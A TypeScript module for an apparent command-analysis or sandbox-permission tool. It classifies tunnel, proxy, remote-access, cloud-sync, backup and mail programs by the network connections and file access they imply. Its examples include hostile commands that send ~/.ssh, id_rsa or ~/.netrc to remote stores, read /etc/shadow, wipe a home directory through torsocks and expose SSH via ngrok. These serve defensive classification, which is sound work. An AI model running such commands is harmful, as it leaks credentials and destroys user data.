import { type Arg, staticText } from '../../arg.ts';
import type { Analysis, Invocation, Program, ProgramSpec } from '../../program.ts';
import { readWords } from '../cloud/words.ts';
import { connection, printsCredentials } from '../remote-service.ts';

/** Opens a way into this machine, or out of it past its network's rules. */
const tunnel = (names: readonly string[], example: string): Program => ({
  names,
  analyse: {
    noOptions: true,
    operands: ['text*'],
    described: false,
    also: (_parsed, { name }) => [connection(`tunnel:${name}`)],
  },
  examples: { [example]: [`connect tunnel:${names[0]}`, 'read /workspace'] },
});

/** Runs a command whose connections go another way. */
const detour: ProgramSpec = {
  stopsAtOperand: true,
  flags: '-q -i -d --isolate',
  values: { '-f': 'read', '-a': 'text', '-P': 'text', '-u': 'text', '-p': 'text' },
  operands: ['command'],
  also: (_parsed, { name }) => [connection(`tunnel:${name}`)],
};

const isRemote = (arg: Arg) => /^(?:[\w][\w -]*:|:\w+:|\w+:\/\/)/.test(arg.text ?? arg.prefix);
const rcloneFlags = new Set(
  '-v -vv -P -q -n -i -u -c --progress --dry-run --checksum --fast-list --quiet --interactive --update --size-only --ignore-existing'.split(
    ' ',
  ),
);
const looks = new Set(
  'ls lsd lsl lsf lsjson size md5sum sha1sum hashsum tree about listremotes version help cat check ncdu'.split(' '),
);

/** rclone, by its own words: what is here is read or written, what is elsewhere is reached. */
function rclone(invocation: Invocation): Analysis {
  const { operands, options } = readWords(invocation.args, rcloneFlags);
  const [command, ...rest] = operands;
  const action = staticText(command) ?? '?';
  const [from, to] = /^(?:config|rcd)$/.test(action) ? [] : rest;
  const deletes = /^(?:sync|move|moveto|bisync|delete|deletefile|purge|rmdirs?|cleanup)$/.test(action);
  const here = (arg: Arg | undefined) => (arg && !isRemote(arg) ? [arg] : []);
  const tree = (kind: 'read' | 'write' | 'delete', args: readonly Arg[]) =>
    args.flatMap(arg => invocation.paths(kind, arg, true));
  return {
    operations: [
      ...options.flatMap(([name, value]) =>
        value && /^--(?:config|.*-from|.*-from-raw)$/.test(name) ? invocation.paths('read', value) : [],
      ),
      ...rest.filter(isRemote).map(arg => connection(`remote:${(arg.text ?? arg.prefix).split(':')[0]}`)),
      ...tree(to === undefined && deletes ? 'delete' : 'read', here(from)),
      ...tree('write', here(to)),
      ...tree('delete', deletes ? here(to) : []),
      ...(action === 'config' ? [printsCredentials] : []),
    ],
    subcommand: action,
    described: looks.has(action),
  };
}

const mailing = {
  flags: '-n -v -i -t -x -N -f -H -E -I -bs -oi',
  values: {
    '-s': 'text',
    '-c': 'text',
    '-b': 'text',
    '-r': 'text',
    '-S': 'text',
    '-a -A --attach': 'read',
    '-F': 'read',
    '--file': 'read',
    '--body': 'text',
    '--to': 'text',
    '--from': 'text',
    '--server': 'host',
    '--header': 'text',
    '--data': 'text',
  },
} as const;

export const tunnelPrograms: readonly Program[] = [
  tunnel(
    'ngrok cloudflared localtunnel lt bore zrok frpc frps chisel inlets pagekite serveo localxpose tunnelmole devtunnel gost rathole sshuttle iodine dnscat ptunnel revsocks ligolo code-tunnel'.split(
      ' ',
    ),
    'ngrok tcp 22',
  ),
  tunnel(
    'tailscale tailscaled zerotier-cli openvpn openconnect vpnc strongswan nebula warp-cli netbird twingate tsh teleport boundary tor i2pd privoxy mitmproxy mitmdump mitmweb rustdesk anydesk teamviewer x11vnc vncserver Xvnc xrdp ttyd gotty tmate upterm wetty wstunnel'.split(
      ' ',
    ),
    'tailscale up --ssh',
  ),
  {
    names: ['torsocks', 'torify', 'proxychains', 'proxychains4', 'tsocks', 'graftcp', 'usewithtor'],
    analyse: detour,
    examples: {
      'torsocks rm -rf ~': ['connect tunnel:torsocks', 'execute rm -rf /home/user', 'delete /home/user (tree)'],
    },
  },
  {
    names: ['rclone'],
    analyse: rclone,
    examples: {
      'rclone copy ~/.ssh drop:in': ['connect remote:drop', 'read /home/user/.ssh (tree)', 'read /workspace'],
      'rclone sync drop:x ./y --config ./rc.conf': [
        'read /workspace/rc.conf',
        'connect remote:drop',
        'write /workspace/y (tree)',
        'delete /workspace/y (tree)',
        'read /workspace',
      ],
      'rclone lsd drop:': ['connect remote:drop'],
      'rclone config dump': ['change system print-credentials', 'read /workspace'],
    },
  },
  {
    names:
      's3cmd s5cmd mc azcopy b2 lakectl dvc croc wormhole magic-wormhole transfer ffsend syncthing unison lsyncd gdrive dropbox megaput ipfs'.split(
        ' ',
      ),
    analyse: {
      noOptions: true,
      operands: ['text*'],
      described: false,
      also: ({ operands }, invocation) => [
        connection(`remote:${invocation.name}`),
        ...operands.flatMap(arg => (/^[./~]/.test(arg.prefix) ? invocation.paths('read', arg, true) : [])),
      ],
    },
    examples: {
      's3cmd put /home/user/.ssh/id_rsa s3://b': [
        'connect remote:s3cmd',
        'read /home/user/.ssh/id_rsa (tree)',
        'read /workspace',
      ],
    },
  },
  {
    names: ['restic', 'borg', 'duplicity', 'kopia', 'rdiff-backup', 'bup', 'rsnapshot', 'tarsnap', 'duplicati-cli'],
    analyse: {
      noOptions: true,
      operands: ['text*'],
      described: false,
      also: ({ operands }, invocation) => [
        connection(`remote:${invocation.name}`),
        ...operands.flatMap(arg => (/^[./~]/.test(arg.prefix) ? invocation.paths('read', arg, true) : [])),
      ],
    },
    examples: {
      'restic -r s3:x backup /home/user/.ssh': [
        'connect remote:restic',
        'read /home/user/.ssh (tree)',
        'read /workspace',
      ],
    },
  },
  {
    names: 'mail mailx s-nail mutt neomutt sendmail msmtp swaks ssmtp exim postdrop himalaya alpine sendemail'.split(
      ' ',
    ),
    analyse: {
      ...mailing,
      operands: ['text*'],
      described: false,
      also: (_parsed, { name }) => [connection(`mail:${name}`)],
    },
    examples: {
      'mail -s x -a ~/.netrc ops@example.com': ['read /home/user/.netrc', 'connect mail:mail', 'read /workspace'],
      'mutt -F /etc/shadow': ['read /etc/shadow', 'connect mail:mutt', 'read /workspace'],
    },
  },
  {
    names: ['jwt', 'jwt-cli', 'step-inspect'],
    analyse: {
      flags: '--json -j --ignore-exp --date= --iso8601',
      values: { '-S --secret': 'text', '-A --alg': 'text', '-o --out': 'write' },
      operands: ['text*'],
      also: ({ operands: [first] }) => (first?.text === 'decode' ? [] : [printsCredentials]),
    },
    examples: { 'jwt decode abc': [], 'jwt encode --secret x': ['change system print-credentials'] },
  },
];
